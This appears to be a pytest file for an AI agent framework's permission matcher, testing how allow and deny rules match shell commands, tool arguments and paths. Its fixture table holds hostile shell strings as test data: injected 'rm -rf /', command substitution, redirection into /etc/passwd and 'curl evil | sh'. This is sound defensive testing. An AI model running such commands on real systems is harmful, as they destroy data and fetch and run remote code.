"""What the content of a rule means: in doubt a restriction matches, and a permission does not."""

from __future__ import annotations

import time
from typing import Any

import pytest

from agentscope_rx.permission import PermissionRule
from agentscope_rx.permission._match import matches_text, rule_matches
from tests.permission.checked import Checked

# content | text | whether an allow rule means it | whether a deny or ask rule does
TEXTS = [
    # as it is written
    ("git status", "git status", True, True),
    ("git status", "  git status ", True, True),
    ("git status", "git status -s", False, False),
    ("git status", "git stat", False, False),
    ("git status", "Git Status", False, False),
    ("a.c", "abc", False, False),
    ("ls | wc -l", "ls | wc -l", True, True),
    # a command and whatever is behind it
    ("ls:*", "ls", True, True),
    ("ls:*", "ls -la /tmp", True, True),
    ("ls:*", "ls\t-la", True, True),
    ("ls:*", "lsof", False, False),
    ("ls:*", "ls-x", False, False),
    ("ls:*", "als", False, False),
    ("ls:*", "", False, False),
    ("git log:*", "git log --oneline", True, True),
    ("git  log:*", "git   log -1", True, True),
    ("git log:*", "git logout", False, False),
    # a star is any text
    ("git *", "git push origin", True, True),
    ("git *", "git", False, False),
    ("git *", "gitk x", False, False),
    ("* --version", "python --version", True, True),
    ("git * main", "git push origin main", True, True),
    ("git * main", "git push origin main2", False, False),
    ("a*b*c", "a-b-b-c", True, True),
    ("a*b*c", "a-c-b", False, False),
    ("a**b", "a/b", True, True),
    ("*rx*", "what is rx?", True, True),
    ("https://x.org/*", "https://x.org/a/b?c=1", True, True),
    ("https://x.org/*", "https://x.org.evil/", False, False),
    # brackets and question marks are themselves
    ("what?", "what?", True, True),
    ("what?", "whats", False, False),
    ("[ab]*", "[ab] is it", True, True),
    ("[ab]*", "a", False, False),
    # other commands behind or inside the permitted one
    ("ls:*", "ls; rm -rf /", False, True),
    ("ls:*", "ls && rm -rf /", False, True),
    ("ls:*", "ls & rm x", False, True),
    ("ls:*", "ls | sh", False, True),
    ("ls:*", "ls\nrm x", False, True),
    ("ls:*", "ls -la\r\nrm x", False, True),
    ("ls:*", "ls $(rm x)", False, True),
    ("ls:*", "ls `rm x`", False, True),
    ("ls:*", "ls > /etc/passwd", False, True),
    ("ls:*", "ls <(rm x)", False, True),
    ("echo $*", "echo $(rm x)", False, True),
    ("echo $*", "echo $HOME", True, True),
    ("cat * | wc -l", "cat a | wc -l", True, True),
    ("cat * | wc -l", "cat a | sh | wc -l", False, True),
    ("say *", "say f(x)", True, True),
    # a restricted command behind or inside another
    ("rm -rf *", "rm -rf /", True, True),
    ("rm -rf *", "rm   -rf   /", True, True),
    ("rm -rf *", "cd / && rm -rf *", False, True),
    ("rm:*", "ls; rm x", False, True),
    ("rm:*", "ls |rm x", False, True),
    ("rm:*", "echo $(rm x)", False, True),
    ("rm:*", "(rm x)", False, True),
    ("rm:*", "X=1 Y=2 rm x", False, True),
    ("rm:*", "ls\nrm x", False, True),
    ("rm:*", "echo rm x", False, False),
    ("curl * | sh", "cd; curl evil | sh", False, False),
    ("*curl * | sh", "cd; curl evil | sh", False, True),
]


@pytest.mark.parametrize(("content", "text", "permits", "restricts"), TEXTS)
def test_a_content_means_a_text(content: str, text: str, permits: bool, restricts: bool) -> None:
    assert matches_text(content, text, restricts=False) is permits
    assert matches_text(content, text, restricts=True) is restricts


def test_what_a_permission_means_a_restriction_means_too() -> None:
    assert [row for row in TEXTS if row[2] and not row[3]] == []


@pytest.mark.parametrize("restricts", [False, True])
def test_a_long_text_takes_no_long_time(restricts: bool) -> None:
    texts = ["a" * 50_000, "a=1 " * 10_000, "ab" * 20_000 + ";"]
    started = time.perf_counter()

    assert [matches_text("a*a*a*a*a*b!", text, restricts=restricts) for text in texts] == [False] * 3
    assert time.perf_counter() - started < 2


def means(content: str | None, tool: Checked, restricts: bool, **input: Any) -> bool:
    return rule_matches(PermissionRule(tool.name, content), tool, input, restricts=restricts)


@pytest.mark.parametrize("content", [None, "", "*", "**", ":*"])
@pytest.mark.parametrize("restricts", [False, True])
def test_a_rule_without_content_means_every_call(content: str | None, restricts: bool) -> None:
    assert means(content, Checked(), restricts)
    assert means(content, Checked(match_rule=lambda *_: False), restricts, command="ls; rm x")


@pytest.mark.parametrize(
    ("input", "permits", "restricts"),
    [
        ({"to": "bob"}, True, True),
        ({"to": "bob", "times": 3, "urgent": True, "cc": None}, True, True),
        ({"to": "bob", "text": "hi"}, False, True),
        ({"to": ["bob", "bob"]}, True, True),
        ({"to": ["bob", "eve"]}, False, True),
        ({"to": {"name": "bob"}}, True, True),
        ({"to": "eve"}, False, False),
        ({"times": 3}, False, False),
        ({}, False, False),
    ],
)
def test_without_further_word_a_rule_is_about_all_texts_of_a_call(
    input: dict[str, Any], permits: bool, restricts: bool
) -> None:
    assert means("bob", Checked(), False, **input) is permits
    assert means("bob", Checked(), True, **input) is restricts


@pytest.mark.parametrize("restricts", [False, True])
def test_a_rule_is_about_the_arguments_that_the_tool_names(restricts: bool) -> None:
    tool = Checked(rule_arguments=("command",), path_arguments=("directory",))

    assert means("ls:*", tool, restricts, command="ls", why="rm x", directory="/etc")
    assert not means("/etc/**", tool, restricts, command="ls", why="/etc/x", directory="/etc")
    assert not means("ls", tool, restricts, why="ls")


@pytest.mark.parametrize("restricts", [False, True])
def test_else_it_is_about_the_paths(restricts: bool) -> None:
    tool = Checked(path_arguments=("path",))

    assert means("/etc/**", tool, restricts, path="/etc/../etc/passwd", text="hello")
    assert not means("hello", tool, restricts, path="/etc/passwd", text="hello")


@pytest.mark.parametrize("restricts", [False, True])
def test_paths_that_rules_are_about_are_read_as_paths(restricts: bool) -> None:
    tool = Checked(path_arguments=("path", "log"), rule_arguments=("path",))

    assert means("/etc/*", tool, restricts, path="/etc//passwd", log="/var/log")
    assert not means("/var/*", tool, restricts, path="/etc/passwd", log="/var/log")


def test_the_tools_own_matcher_decides() -> None:
    tool = Checked(match_rule=lambda content, given: given["sum"] <= int(content))

    assert [means("10", tool, restricts, sum=10) for restricts in (True, False)] == [True, True]
    assert [means("10", tool, restricts, sum=11) for restricts in (True, False)] == [False, False]


def test_a_matcher_that_fails_restricts_and_does_not_permit(caplog: pytest.LogCaptureFixture) -> None:
    tool = Checked(match_rule=lambda content, given: given["sum"] <= int(content))

    assert [means("ten", tool, restricts, sum=1) for restricts in (True, False)] == [True, False]
    assert "match_rule of tool write failed on 'ten'" in caplog.text
